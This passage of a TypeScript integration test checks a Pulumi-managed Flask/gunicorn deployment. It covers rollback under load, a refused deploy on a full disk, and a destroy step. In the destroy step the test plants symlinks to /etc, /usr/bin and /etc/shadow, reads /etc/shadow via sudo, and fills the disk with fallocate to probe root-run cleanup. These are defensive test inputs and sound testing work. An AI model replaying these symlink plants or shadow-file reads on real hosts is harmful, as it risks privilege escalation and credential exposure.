        assert.equal(hashesAfter, hashesBefore, "every file the live version reads (unit, configuration, release) is as it was");
        assert.deepEqual(await secretsIn(), secretsBefore, "after a restart: the secrets that were serving (the rotated value waits beside them)");
        // And a reboot: what starts at boot is the version that served.
        const rebootS = await host.reboot(600);
        const bootS = await waitFor("serving after a reboot that follows the refusals", 300, async () => (await httpsGet(url, out.certificatePem.value).catch(() => ({ status: 0 }))).status === 200);
        assert.equal((await httpsGet(url, out.certificatePem.value)).body, CHANGED_BODY, "after a reboot: the version that was serving");
        assert.equal(await liveVersionHashes(host, user), hashesBefore, "after a reboot: every file the live version reads is as it was");
        assert.deepEqual(await secretsIn(), secretsBefore, "after a reboot: the secrets that were serving");
        assert.equal(await liveImage(), imageBefore, "after a restart and a reboot: the image that was serving");
        third = `then systemctl --user restart: 200 "${CHANGED_BODY}" after ${backS.toFixed(0)} s, then a reboot (${rebootS.toFixed(0)} s): 200 "${CHANGED_BODY}" ${bootS.toFixed(0)} s later; unit file unchanged; the live version's ${hashesBefore.trim().split("\n").length} files (unit, configuration, release) byte for byte (sha256) and its secrets (${secretsBefore.names.trim().split(" ").length}, names and the appSecrets value) as they were, each time`;
      } finally {
        fs.writeFileSync(main, good);
        fs.rmSync(appRequirements, { force: true });
        for (const [k, v] of settingsBefore) await (v === undefined ? s.stack.removeConfig(k) : s.stack.setConfig(k, v));
      }
      await sameCanaries(before, "(10)");
      log("pulumi up (app fixed again)");
      await s.stack.up();
      const after = await s.stack.preview();
      assert.deepEqual(Object.entries(after.changeSummary ?? {}).filter(([k]) => k !== "same"), [], JSON.stringify(after.changeSummary));
      await servesApp();
      return `${first}; again with error.log -> tls/key.pem: ${second}; ${third}; canaries unchanged; after restoring the app: up, preview no changes`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("13 rollback: the previous app put back in the project, up under load: a switch to its kept release and image (nothing sent, no install, no build), 0 failed requests, its time printed; versions lists it first", async () => {
      const main = path.join(s.workDir, "flask_app", "main.py");
      const before = (await s.stack.outputs()).hosts.value.vm.versions as RetainedVersion[];
      // The release the site checks' app change replaced (its Hello, World!), kept since.
      const previous = before.find((v) => v.app !== before[0].app);
      assert.ok(previous, `a previous release is kept: ${JSON.stringify(before)}`);
      const releasesBefore = (await sh(host, `sudo ls -1 ${releases}`)).trim().split("\n");
      fs.writeFileSync(main, fs.readFileSync(main, "utf8").replace(CHANGED_BODY, "Hello, World!"));
      log("pulumi up (rollback to the previous app) under load");
      const t0 = Date.now();
      const changed: string[] = [];
      const onEvent = (e: EngineEvent) => {
        const m = e.resourcePreEvent?.metadata;
        if (m && m.op !== "same" && m.op !== "read") changed.push(`${m.op} ${m.urn.split("::").pop()}`);
      };
      const { result, load } = await underLoad(url, out.certificatePem.value, () => s.stack.up({ onOutput: (o) => (printed += o), onEvent }));
      if (result.status === "rejected") throw result.reason;
      const upS = (Date.now() - t0) / 1000;
      assert.deepEqual(load.failures, [], "no request failed during the rollback");
      assert.ok(!changed.some((c) => /vm-(image|build-[a-z-]+)$/.test(c)), `no image build: ${changed.join(", ")}`);
      assert.equal((await httpsGet(url, out.certificatePem.value)).body, "Hello, World!", "the previous version serves");
      const versions = result.value.outputs.hosts.value.vm.versions as RetainedVersion[];
      assert.equal(versions[0].app, previous.app, `the previous release is live: ${JSON.stringify(versions)}`);
      assert.equal(versions[0].image, before[0].image, "the same image");
      // What the up's commands said: the release was there (not installed again), the image not rebuilt.
      const stdoutOf = async (name: string) => {
        const resources = (await s.stack.exportStack()).deployment.resources as { urn: string; outputs?: { stdout?: unknown } }[];
        return String(resources.find((r) => r.urn.endsWith(`::${name}`))?.outputs?.stdout ?? "").trim();
      };
      const release = await stdoutOf("vm-app-install");
      assert.match(release, /^release \S+ already installed$/m, "the kept release is reused");
      assert.doesNotMatch(release, /installed \d+ files/, "nothing of the app was sent");
      const releasesAfter = (await sh(host, `sudo ls -1 ${releases}`)).trim().split("\n");
      assert.deepEqual(releasesAfter.filter((r) => !releasesBefore.includes(r)), [], "no release directory added");
      return `up ${upS.toFixed(0)} s under load: ${load.bodies.length + load.failures.length} requests, ${load.failures.length} failed, ${load.bodies.filter((b) => b === "Hello, World!").length} already the previous body; release: "${release.split("\n")[0]}" (the app not sent); no release directory added; image ${versions[0].image} (no build); ran: ${[...new Set(changed.map((c) => c.split(" ").pop()))].join(" ")}; versions: ${versions.map((v) => `${v.app}/${v.config}`).join(", ")}`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("14 disk full: an app change's up refused before anything is uploaded or built, naming the filesystem, the space free and needed; the site serves throughout; nothing changed", async () => {
      const main = path.join(s.workDir, "flask_app", "main.py");
      const served = "Hello, World!";
      const good = fs.readFileSync(main, "utf8");
      const hashesBefore = await liveVersionHashes(host, user);
      // What an unprivileged process may still write on / (root keeps its reserved blocks): all but 8 MiB filled.
      const fill = "/var/tmp/robust-disk-fill";
      const availKiB = Number((await sh(host, "df -Pk / | awk 'NR == 2 { print $4 }'")).trim());
      assert.ok(availKiB > 64 * 1024, `room to fill: ${availKiB} KiB`);
      let msg = "";
      let load = { bodies: [] as string[], failures: [] as string[] };
      let freeMiB = 0;
      try {
        await sh(host, `sudo fallocate -l ${availKiB - 8 * 1024}K ${fill}`);
        freeMiB = Math.round(Number((await sh(host, "df -Pk / | awk 'NR == 2 { print $4 }'")).trim()) / 1024);
        fs.writeFileSync(main, good.replace(served, "Hello, full disk!"));
        log(`pulumi up (an app change, ${freeMiB} MiB free on /) under load`);
        const r = await underLoad(url, out.certificatePem.value, () => s.stack.up({ onOutput: (o) => (printed += o) }));
        load = r.load;
        assert.equal(r.result.status, "rejected", "the up must be refused");
        msg = String((r.result as PromiseRejectedResult).reason?.message ?? r.result);
      } finally {
        await sh(host, `sudo rm -f ${fill}`);
        fs.writeFileSync(main, good);
      }
      // The words with the script left out (it holds its own messages).
      const said = withoutScripts(msg);
      assert.match(said, /not enough disk space for this version/);
      const line = firstLine(said, /^\s*\/: \d+ MiB free, \d+ MiB needed \(/);
      assert.ok(line, `the refusal names / with the space free and needed: ${withoutScripts(msg).slice(-2000)}`);
      assert.deepEqual(load.failures, [], "no request failed");
      assert.ok(load.bodies.length > 0 && load.bodies.every((b) => b === served), "the running version served throughout");
      assert.equal(await liveVersionHashes(host, user), hashesBefore, "the live version's files are as they were");
      // Space freed, app restored: the next up re-runs only the checks (the refused one, and the connection's,
      // whose trigger the change moved), no deploy; then nothing is left to do.
      const ran = new Set<string>();
      await s.stack.up({
        onOutput: (o) => (printed += o),
        onEvent: (e: EngineEvent) => {
          const m = e.resOutputsEvent?.metadata;
          if (m && m.op !== "same" && m.type !== "pulumi:pulumi:Stack" && !m.type.startsWith("pulumi:providers:")) ran.add(m.urn.split("::").pop()!);
        },
      });
      assert.deepEqual([...ran].filter((r) => !["vm-ssh-check", "vm-space", "vm-state"].includes(r)), [], `the up after the refusal ran more than the checks: ${[...ran].join(", ")}`);
      const after = await s.stack.preview({ onOutput: (o) => (printed += o) });
      assert.deepEqual(Object.entries(after.changeSummary ?? {}).filter(([k]) => k !== "same"), [], JSON.stringify(after.changeSummary));
      assert.equal((await httpsGet(url, out.certificatePem.value)).body, served);
      return `${freeMiB} MiB free on / for the system user: up refused, "${firstLine(said, /not enough disk space/)}" "${line}"; ${load.bodies.length + load.failures.length} requests, ${load.failures.length} failed, all "${served}"; the live version's files byte for byte; space freed, app restored: up ran ${[...ran].join(", ")}, then preview no changes`;
    });

    // ---------------------------------------------------------------------------------------------
    await step("8 destroy after interrupted+resumed provisioning, with the user's symlinks to /etc, /usr/bin, /etc/shadow planted in each tree, leaves nothing but an operator's file, which it reports", async () => {
      const uid = out.hosts.value.vm.uid;
      const u = asUserPrefix(user, uid);
      // userdel rewrites /etc/passwd and /etc/shadow, so /etc's mtime and shadow's size, mtime and hash change:
      // of those two, owner and mode are compared, and the other accounts' lines of /etc/shadow.
      const lasting = (snap: string) =>
        snap
          .split("\n")
          .filter((l) => !/^[0-9a-f]{64} {2}\/etc\/shadow$/.test(l))
          .map((l) => (/^\/etc(\/shadow)? /.test(l) ? l.split(" ").slice(0, 3).join(" ") : l))
          .join("\n");
      const otherAccounts = () => sh(host, `sudo sh -c "grep -v '^${user}:' /etc/shadow | sha256sum"`);
      const before = await canaries();
      const othersBefore = await otherAccounts();
      // The user's links to system files in every tree destroy walks as root: the home, installPath and logPath
      // (the user's files there are deleted: the links themselves), and from the container the instance folder
      // in dataPath (kept by retainData and handed to root: the link itself, chown -h).
      const evilData = "/var/lib/flagun-web/instance/evil-data";
      await sh(host, `${u} sh -c 'ln -s /etc /opt/${user}/evil-home && ln -s /usr/bin /opt/${user}/site/evil-install && ln -s /etc/shadow /var/log/flagun-web/gunicorn/evil-log'`);
      await sh(host, `${u} podman exec flagun-web ln -s /etc /srv/app/instance/evil-data`);
      // An operator's note inside logPath (root's, as `sudo` makes it): not ours, so destroy keeps it and says so.
      const note = "/var/log/flagun-web/nginx/operator-notes.txt";
      await sh(host, `echo 'written by the operator' | sudo tee ${note} >/dev/null`);
      log("pulumi destroy");
      let destroyOut = "";
      await s.stack.destroy({ onOutput: (o) => (destroyOut += o) });
      // The host's journal has the report whatever the command plugin shows of a delete's output (the
      // official one shows it as the resource's status; the Node fallback shows none).
      const report = (await sh(host, "sudo journalctl -t flagun-rosupod -o cat --no-pager")).split("\n").find((l) => l.startsWith("left /var/log/flagun-web")) ?? "";
      assert.ok(report.includes(note), `destroy did not report the kept file in the journal: ${report}`);
      const shown = destroyOut.includes(note) ? "also in the destroy output" : "not in the destroy output (this command plugin hides delete output)";
      assert.equal((await sh(host, `sudo cat ${note}`)).trim(), "written by the operator");
      assert.equal((await sh(host, "sudo find /var/log/flagun-web | sort")).trim(), ["/var/log/flagun-web", "/var/log/flagun-web/nginx", note].join("\n"));
      assert.equal((await sh(host, "sudo stat -c %u:%g /var/log/flagun-web /var/log/flagun-web/nginx")).trim(), "0:0\n0:0", "kept directories still carry the deleted uid");
      const owned = (await sh(host, `sudo find / -xdev \\( -uid ${uid} -o -gid ${uid} \\) -print 2>/dev/null | head -20`)).trim();
      assert.equal(owned, "", `files of uid ${uid} left`);
      assert.equal(lasting(await canaries()), lasting(before), "root changed a canary (destroy)");
      assert.equal(await otherAccounts(), othersBefore, "destroy changed other accounts' lines of /etc/shadow");
      assert.equal((await sh(host, "sudo stat -c %U:%G:%a /etc")).trim(), "root:root:755");
      assert.equal((await sh(host, `sudo stat -c %u ${evilData}`)).trim(), "0", "the link in the kept data is not root's");
      assert.equal((await sh(host, `sudo readlink ${evilData}`)).trim(), "/etc");
      await sh(host, `sudo rm ${evilData}`); // the planted link (rm of a link removes the link)
      await sh(host, "sudo rm -rf /var/log/flagun-web"); // the operator takes their file away
      return `kept and reported in the journal: "${report}" (${shown}); kept dirs root-owned; planted links: home/install/log ones deleted, the data one kept as root's (-> /etc); /etc, /etc/shadow, /usr, /usr/bin owner and mode, other accounts' shadow lines, root's canary files unchanged; ${await assertUninstalled(host, user, uid)}`;
    });
  } finally {
    console.log("# ---------------------------------------------------------------------------------------");
    console.log("# case | figure | pass");
    for (const [c, f, p] of results) console.log(`# ${c} | ${f.replace(/\|/g, "/")} | ${p ? "PASS" : "FAIL"}`);
    console.log("# ---------------------------------------------------------------------------------------");
  }
});
